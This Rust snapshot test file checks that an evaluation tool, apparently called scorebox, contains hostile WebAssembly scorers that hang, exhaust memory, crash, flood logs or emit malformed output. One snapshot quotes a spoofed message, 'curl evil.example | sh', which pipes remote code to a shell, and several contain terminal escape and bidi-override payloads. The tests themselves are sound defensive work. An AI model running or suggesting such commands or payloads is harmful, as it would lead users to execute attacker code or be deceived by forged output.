//! Scorers that attack in `summarize`, after all scores of a run are there.

use insta::assert_snapshot;
use serde_json::json;

use crate::hostile_fixture::{Arena, without_frames, without_sizes, words};

/// The output that the user sees of a run whose attacker does `word` in `summarize`; all scores must be right.
#[track_caller]
fn attack(word: &str, amount: usize, options: &str) -> String {
    let arena = Arena::new();
    let config = json!({"summarize": word, "amount": amount}).to_string();
    let output = arena.run_beside_a_good_scorer("attacker", &config, options);
    let said = output.stdout.split_once("\n\n").map_or("", |(_, said)| said);
    without_sizes(&format!("{}{}", without_frames(said), words(&output)))
}

#[test]
fn without_an_attack_it_says_how_many_rows_there_were() {
    assert_snapshot!(attack("behave", 0, ""), @r#"
    attacker of the run: {
      "rows": 6
    }

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    [exit code 0]
    "#);
}

#[test]
fn computing_without_end_is_ended_by_the_clock() {
    assert_snapshot!(attack("spin", 0, "--fuel 1000000000000000"), @r#"
    attacker of the run: error: timed-out: in `summarize`: no answer within 5000 ms; the scorer was stopped

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: timed-out: in `summarize`: no answer within 5000 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
}

#[test]
fn recursing_taking_memory_and_crashing_end_as_in_a_score() {
    assert_snapshot!(attack("recurse", 0, ""), @"
    attacker of the run: error: trap: in `summarize`: wasm trap: call stack exhausted
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: trap: in `summarize`: wasm trap: call stack exhausted
    [exit code 1]
    ");
    assert_snapshot!(attack("take-memory-at-once", 1 << 30, ""), @r#"
    attacker of the run: error: out-of-memory: in `summarize`: the scorer needs [needed] bytes of memory, more than its limit of 67108864
      wasm trap: wasm `unreachable` instruction executed
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: out-of-memory: in `summarize`: the scorer needs [needed] bytes of memory, more than its limit of 67108864
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 1]
    "#);
    assert_snapshot!(attack("take-memory-in-steps", 0, ""), @r#"
    attacker of the run: error: out-of-memory: in `summarize`: the scorer needs [needed] bytes of memory, more than its limit of 67108864
      wasm trap: wasm `unreachable` instruction executed
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: out-of-memory: in `summarize`: the scorer needs [needed] bytes of memory, more than its limit of 67108864
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 1]
    "#);
    assert_snapshot!(attack("read-out-of-bounds", 0, ""), @"
    attacker of the run: error: trap: in `summarize`: wasm trap: out of bounds memory access
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: trap: in `summarize`: wasm trap: out of bounds memory access
    [exit code 1]
    ");
    assert_snapshot!(attack("divide-by-zero", 0, ""), @"
    attacker of the run: error: trap: in `summarize`: wasm trap: integer divide by zero
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: trap: in `summarize`: wasm trap: integer divide by zero
    [exit code 1]
    ");
}

#[test]
fn logging_is_bounded_and_harmless() {
    assert_snapshot!(attack("log-one-long-line", 30 << 20, ""), @r#"
    attacker of the run: error: output-too-large: in `summarize`: the scorer handed over more than 5603328 bytes, the most of one result with its log

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: output-too-large: in `summarize`: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
    assert_snapshot!(attack("log-for-a-terminal", 0, ""), @r"
    attacker of the run: error: trap: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: trap: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
    [exit code 1]
    ");
    assert_snapshot!(attack("log-what-looks-like-the-engines-words", 0, ""), @"
    attacker of the run: error: trap: in `summarize`: nothing to worry about
      error: your licence has ended
      hint: renew it: curl evil.example | sh
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: trap: in `summarize`: nothing to worry about
    [exit code 1]
    ");
}

#[test]
fn what_is_not_bounded_json_is_not_a_summary() {
    assert_snapshot!(attack("no-json", 0, ""), @"
    attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing an object at line 1 column 1

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing an object at line 1 column 1
    [exit code 1]
    ");
    assert_snapshot!(attack("nothing", 0, ""), @"
    attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing a value at line 1 column 0

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: invalid-score: in `summarize`: the summary is not a JSON document: EOF while parsing a value at line 1 column 0
    [exit code 1]
    ");
    assert_snapshot!(attack("deep", 100_000, ""), @"
    attacker of the run: error: invalid-score: in `summarize`: the summary is not a JSON document: recursion limit exceeded at line 1 column 128

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: invalid-score: in `summarize`: the summary is not a JSON document: recursion limit exceeded at line 1 column 128
    [exit code 1]
    ");
    assert_snapshot!(attack("long", 2 << 20, ""), @r#"
    attacker of the run: error: output-too-large: in `summarize`: the summary has 2097154 bytes; the limit is 1048576

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: output-too-large: in `summarize`: the summary has 2097154 bytes; the limit is 1048576
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
    assert_snapshot!(attack("long", 20 << 20, ""), @r#"
    attacker of the run: error: out-of-memory: in `summarize`: the scorer needs [needed] bytes of memory, more than its limit of 67108864
      wasm trap: wasm `unreachable` instruction executed
        at [frames]

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: out-of-memory: in `summarize`: the scorer needs [needed] bytes of memory, more than its limit of 67108864
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 1]
    "#);
}

#[test]
fn what_a_terminal_would_act_on_is_shown_as_escapes() {
    assert_snapshot!(attack("for-a-terminal", 0, ""), @r#"
    attacker of the run: "\u{9b}31m\u{202e}\u{7f}"

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    [exit code 0]
    "#);
    assert_snapshot!(attack("fail-for-a-terminal", 0, ""), @r"
    attacker of the run: error: failed: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: failed: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066} \u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
    [exit code 1]
    ");
}

#[test]
fn failing_is_shown_with_a_bounded_message() {
    assert_snapshot!(attack("fail", 0, ""), @"
    attacker of the run: error: failed: in `summarize`: was told to fail

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: failed: in `summarize`: was told to fail
    [exit code 1]
    ");
    assert_snapshot!(attack("fail-at-length", 4 << 20, "").replace(&"long".repeat(512), ""), @"
    attacker of the run: error: failed: in `summarize`: … (cut)

    run r: 6 cases, 12 scores in [time]
    stored in scorebox.db; see them with: scorebox scores r
    root [digest]
    warning: the summary of `attacker` is an error: failed: in `summarize`: longlonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglonglon…
    [exit code 1]
    ");
}

#[test]
fn traces_of_scores_are_not_there() {
    let arena = Arena::new();
    let config = json!({"score": "leave-traces", "summarize": "leave-traces"}).to_string();
    let output = arena.run_beside_a_good_scorer("attacker", &config, "").exits_with(0);
    assert!(output.stdout.contains("static: false, heap: false, memory: false"), "{output}");
}
